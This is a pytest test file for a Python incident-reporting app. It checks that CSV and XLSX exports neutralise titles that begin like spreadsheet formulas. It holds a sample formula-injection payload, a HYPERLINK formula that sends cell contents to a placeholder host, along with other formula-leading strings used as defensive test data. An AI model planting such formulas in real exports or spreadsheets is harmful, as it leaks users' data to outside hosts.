"""Issue 15, defect 1: text a spreadsheet would run (a title imported as =HYPERLINK(...)) never comes out of an
export as a formula: CSV cells start with an apostrophe, XLSX cells are quote-prefixed string cells."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.incidents.intake.import_support import csv_bytes, row, run_import
from waspada.incidents.models import Incident

HOSTILE = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
OTHERS = ("+62 812 hubungi", "-1+2", "@SUM(A1)", "\uff1dHYPERLINK(1)")


@pytest.fixture
def hostile(people: dict[str, Any]) -> list[Incident]:
    """Incidents imported with titles that start like formulas (the way issue 15 found it: by import)."""
    titles = [HOSTILE, *OTHERS]
    rows = [row(judul=title, luka=n) for n, title in enumerate(titles)]
    outcome = run_import(people["bandung"], csv_bytes(rows), "laporan.csv")  # as text (an XLSX "=" is a formula)
    assert outcome.committed, outcome.errors
    return list(Incident.objects.filter(title__in=titles))


def test_csv_export_neutralises_formula_text(hostile: list[Incident], export_file: Callable[..., Any]) -> None:
    _job, data = export_file("bandung", "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    titles = {row["title"] for row in rows}
    assert "'" + HOSTILE in titles and HOSTILE not in titles
    for title in OTHERS:
        assert "'" + title in titles
    for line in data.decode("utf-8-sig").splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "@", "\uff1d")), cell
    assert {row["injured"] for row in rows} >= {"0", "1"}  # numbers stay numbers, unquoted by the apostrophe


def test_xlsx_export_writes_formula_text_as_string_cells(hostile: list[Incident],
                                                         export_file: Callable[..., Any]) -> None:  # fmt: skip
    _job, data = export_file("bandung", "xlsx")
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    codes = [cell.value for cell in sheet[1]]
    title_column = codes.index("title") + 1
    cells = [sheet.cell(row=number, column=title_column) for number in range(3, sheet.max_row + 1)]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    found = {cell.value: cell for cell in cells}
    assert found[HOSTILE].data_type == "s" and found[HOSTILE].quotePrefix
    for title in OTHERS:
        assert found[title].data_type == "s" and found[title].quotePrefix
    column = codes.index("injured") + 1
    injured = [sheet.cell(row=number, column=column).value for number in range(3, sheet.max_row + 1)]
    assert all(isinstance(value, int) for value in injured if value is not None)
